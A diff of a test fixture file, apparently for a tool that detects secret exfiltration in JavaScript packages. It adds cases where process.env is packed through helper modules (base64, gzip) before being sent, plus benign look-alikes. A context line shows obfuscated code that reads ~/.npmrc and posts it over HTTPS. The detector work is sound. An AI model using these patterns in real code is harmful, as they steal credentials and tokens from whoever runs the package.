@@ -376,6 +376,23 @@ const CHANNELS: readonly Row[] = [
     "const M=process.mainModule?.constructor??module.constructor;const load=(n)=>M._load(n,null,false);load('http'+'s').request('x').end(load('fs').readFileSync(process.env.HOME+'/.npmrc'))",
   ],
   [
+    'a function of another module that packs',
+    {
+      'index.js': "const {pack}=require('./util');SEND«pack(process.env)»",
+      'util.js': "exports.pack=(o)=>Buffer.from(JSON.stringify(o)).toString('base64')",
+    },
+  ],
+  [
+    'functions of other modules that pack, behind each other',
+    {
+      'index.js': "import {wrap} from './a.js';SEND«wrap('x',process.env)»",
+      'a.js': "import {pack} from './b.js';export const wrap=(name,o)=>({name,body:pack(o)})",
+      'b.js':
+        "import {gzipSync} from 'zlib';export function pack(o){const t=JSON.stringify(o);return gzipSync(t).toString('base64')}",
+    },
+    { type: 'module' },
+  ],
+  [
     'a place that another module names',
     {
       'index.js': "const {F}=require('./c');SEND«require('fs').readFileSync(require('os').homedir()+F)»",
@@ -865,6 +882,21 @@ const STAYS: readonly Row[] = [
   [
     'another service of the same class',
     "class T{send(p){return fetch('x',{body:JSON.stringify(p)})}} class L{send(p){this.p=p}} class C{constructor(t,l){this.t=t;this.l=l} go(){this.l.send(process.env);this.t.send('x')}} new C(new T(),new L()).go()",
+  ],
+  [
+    'a function of another module that takes a part',
+    {
+      'index.js': "const {pick}=require('./util');SEND«JSON.stringify(pick(process.env))»",
+      'util.js': 'exports.pick=(o)=>({url:o.WEATHER_URL,key:o.WEATHER_KEY})',
+    },
+  ],
+  [
+    'what a function of another module was given there',
+    {
+      'index.js': "const {log}=require('./util');SEND«log('x')»",
+      'util.js':
+        'exports.log=(t)=>String(t);console.log(exports.log(process.env));const {log}=exports;log(process.env)',
+    },
   ],
   [
     'another place that another module names',
